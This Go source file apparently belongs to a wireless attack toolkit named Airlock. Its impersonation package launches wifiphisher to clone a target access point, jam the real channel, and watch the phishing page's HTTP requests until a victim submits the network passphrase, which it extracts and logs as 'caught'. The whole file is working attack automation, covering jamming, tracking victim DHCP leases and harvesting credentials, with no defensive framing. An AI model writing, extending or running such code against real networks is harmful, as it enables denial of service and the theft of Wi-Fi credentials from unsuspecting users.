// Package impersonation runs a rogue copy of an access point with
// wifiphisher and waits for a victim to type the network passphrase.
package impersonation

import (
	"fmt"
	"io"
	"maps"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"Airlock/internal/machine"
	"Airlock/internal/procman"
	"Airlock/internal/wireless"
	"Airlock/pkg/logger"
	"Airlock/pkg/models"
)

type PhishState int

const (
	PhishStarted PhishState = iota
	Active
	Stopping
	PhishTerminated
)

func (s PhishState) String() string {
	switch s {
	case PhishStarted:
		return "STARTED"
	case Active:
		return "ACTIVE"
	case Stopping:
		return "STOPPING"
	case PhishTerminated:
		return "TERMINATED"
	}
	return "UNKNOWN"
}

// Section is the part of the wifiphisher screen a line belongs to.
type Section int

const (
	NoSection Section = iota
	JammingDevices
	DHCPLeases
	HTTPRequests
)

const (
	DisplayPrefix      = "wifiphisher 1> "
	DefaultTemplate    = "connection_reset"
	FlagPasswordCaught = "password_caught"
	passwordField      = "wfphshr-wpa-password="
)

var ansiEscape = regexp.MustCompile(`(\x9B|\x1B\[)[0-?]*[ -/]*[@-~]`)

// Lease is one line of the DHCP lease section.
type Lease struct {
	Expiration string
	MAC        string
	IP         string
	Hostname   string
	ClientID   string
}

func parseLease(line string) Lease {
	parts := strings.SplitN(line, " ", 5)
	for len(parts) < 5 {
		parts = append(parts, "")
	}
	return Lease{Expiration: parts[0], MAC: parts[1], IP: parts[2], Hostname: parts[3], ClientID: parts[4]}
}

// Phisher follows wifiphisher from startup through jamming to shutdown.
type Phisher struct {
	machine.Base[PhishState]

	display  io.Writer
	section  Section
	devices  []string
	leases   map[string]Lease
	requests []string
	password string
}

// StartPhisher impersonates ap while jamming its real channel on iface.
func StartPhisher(bin string, iface *wireless.Interface, ap models.AccessPoint, template string, display io.Writer, opts procman.Options) (*Phisher, error) {
	if template == "" {
		template = DefaultTemplate
	}
	args := []string{
		"--jamminginterface", iface.Name,
		"--ap-bssid", ap.BSSID,
		"--ap-essid", ap.ESSID,
		"--ap-ch", strconv.Itoa(ap.Channel),
		"--template", template,
	}
	if opts.Name == "" {
		opts.Name = "wifiphisher"
	}
	p, err := procman.Start(bin, args, opts)
	if err != nil {
		return nil, err
	}
	return NewPhisher(p, display), nil
}

// NewPhisher wraps a running wifiphisher. A nil display discards its
// progress lines.
func NewPhisher(src machine.Source, display io.Writer) *Phisher {
	if display == nil {
		display = io.Discard
	}
	p := &Phisher{
		Base:    machine.NewBase[PhishState]("wifiphisher", src, PhishStarted, PhishTerminated),
		display: display,
		leases:  make(map[string]Lease),
	}
	enter := func(s Section) func([]string) error {
		return func([]string) error {
			p.section = s
			return nil
		}
	}
	p.Out = &machine.Table[PhishState]{
		Normalize: stripANSI,
		Rules: []machine.Rule[PhishState]{
			machine.On("monitor", machine.Regexp(`^\[\*\] Monitor mode: (\S+) - (\S+)$`), PhishStarted).
				Goto(Active).
				Then(func(m []string) error { return p.show(m[0][4:]) }),
			machine.On("startup", machine.Regexp(`^\[[+*!]\] (.*)$`), PhishStarted).
				Then(func(m []string) error { return p.show(m[1]) }),
			machine.On("jamming", machine.Exact("Jamming devices: "), Active).Then(enter(JammingDevices)),
			machine.On("leases", machine.Exact("DHCP Leases: "), Active).Then(enter(DHCPLeases)),
			machine.On("requests", machine.Exact("HTTP requests: "), Active).Then(enter(HTTPRequests)),
			machine.On("closing", machine.Exact("[!] Closing"), Active).
				Goto(Stopping).
				Then(enter(NoSection)),
			machine.On("body", machine.Any(), Active).Then(p.body),
			machine.On("shutdown", machine.Any(), Stopping).Then(func(m []string) error { return p.show(m[0]) }),
		},
		// The banner is indented ASCII art.
		Noise:   []machine.Matcher{machine.Prefix("     ")},
		Unknown: machine.Warn,
	}
	p.Err = &machine.Table[PhishState]{
		Normalize: stripANSI,
		Rules: []machine.Rule[PhishState]{
			machine.On("shutdown trace", machine.Any(), Stopping).Then(func(m []string) error {
				logger.DebugIfEnabled("[wifiphisher] stderr while stopping: %s", m[0])
				return nil
			}),
		},
		Noise:   []machine.Matcher{machine.Exact("'emacs': unknown terminal type.")},
		Unknown: machine.Warn,
	}
	p.Outcome = machine.Outcome[PhishState]{
		SuccessStates: []PhishState{Stopping},
		SuccessFlags:  []string{FlagPasswordCaught},
	}
	return p
}

func stripANSI(line string) string {
	return ansiEscape.ReplaceAllString(line, "")
}

func (p *Phisher) show(line string) error {
	_, err := fmt.Fprintln(p.display, DisplayPrefix+line)
	return err
}

func (p *Phisher) body(m []string) error {
	line := m[0]
	switch p.section {
	case JammingDevices:
		if slices.Contains(p.devices, line) {
			return nil
		}
		p.devices = append(p.devices, line)
		logger.Infof("[wifiphisher] device: %s", line)
		return p.show("device: " + line)
	case DHCPLeases:
		lease := parseLease(line)
		_, known := p.leases[lease.ClientID]
		p.leases[lease.ClientID] = lease
		if known {
			return nil
		}
		logger.Infof("[wifiphisher] lease: %s", line)
		return p.show("lease: " + line)
	case HTTPRequests:
		if !slices.Contains(p.requests, line) {
			p.requests = append(p.requests, line)
			logger.Infof("[wifiphisher] request: %s", line)
			if err := p.show("request: " + line); err != nil {
				return err
			}
		}
		if i := strings.Index(line, passwordField); i >= 0 {
			p.password = line[i+len(passwordField):]
			p.SetFlag(FlagPasswordCaught)
			logger.Infof("[+] wifiphisher caught password %q", p.password)
		}
		return nil
	}
	logger.Warnf("[wifiphisher] unexpected stdout outside a section: %q", line)
	return nil
}

// Password is the passphrase a victim submitted, if any.
func (p *Phisher) Password() (string, bool) {
	return p.password, p.Flag(FlagPasswordCaught)
}

// Section is the screen section the last line belonged to.
func (p *Phisher) Section() Section { return p.section }

func (p *Phisher) JammedDevices() []string { return append([]string(nil), p.devices...) }

func (p *Phisher) Requests() []string { return append([]string(nil), p.requests...) }

// Leases by client ID.
func (p *Phisher) Leases() map[string]Lease {
	return maps.Clone(p.leases)
}
